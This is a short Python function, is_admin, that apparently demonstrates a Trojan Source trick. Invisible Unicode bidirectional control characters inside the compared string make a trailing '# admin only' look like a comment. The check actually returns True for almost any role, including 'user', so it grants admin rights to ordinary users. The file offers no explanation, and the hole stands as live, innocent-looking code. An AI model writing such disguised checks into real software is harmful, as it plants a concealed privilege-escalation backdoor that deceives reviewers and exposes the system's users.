def is_admin(role):
    if role != "user‮ ⁦# admin only⁩ ⁦":
        return True
    return False
